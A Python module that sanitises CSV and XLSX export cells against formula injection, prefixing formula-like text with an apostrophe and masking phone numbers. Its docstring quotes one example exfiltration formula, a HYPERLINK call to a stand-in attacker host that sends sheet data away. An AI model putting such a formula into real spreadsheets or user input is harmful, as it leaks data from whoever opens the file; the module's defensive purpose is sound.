"""The rule every CSV and XLSX the product writes follows (P3, and formula injection): a cell that a
spreadsheet would read as a formula is neutralised, and phone numbers typed into text are masked. The
files themselves are written by adapters.spreadsheets.

A text cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by Excel,
LibreOffice and WPS when the file is opened (`=HYPERLINK("http://evil.example/?leak="&A1,"点击")` sends
the sheet's data away). Such text comes from people: categories, project names, owners' names. In a CSV
it is written with a leading apostrophe (the spreadsheets' own "this is text" mark, OWASP's advice); in
an XLSX every text is a string cell (never a formula), and those that begin so carry the quote-prefix
style, so they stay text even when the cell is edited. A plain number written as text ("-12.50") is
left as it is: it is no formula. Pure; the property import refuses names that begin so."""

import re

from aftersales.privacy import mask_phone_numbers_in

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)\Z")


def starts_like_a_formula(text: str) -> bool:
    """True for text a spreadsheet would run as a formula (or a DDE command)."""
    return text.startswith(FORMULA_START) and not _PLAIN_NUMBER.match(text)


def safe_text(text: str) -> str:
    """Text as a CSV cell writes it: phone numbers masked (P3), a formula neutralised with an apostrophe."""
    text = mask_phone_numbers_in(text)
    return "'" + text if starts_like_a_formula(text) else text
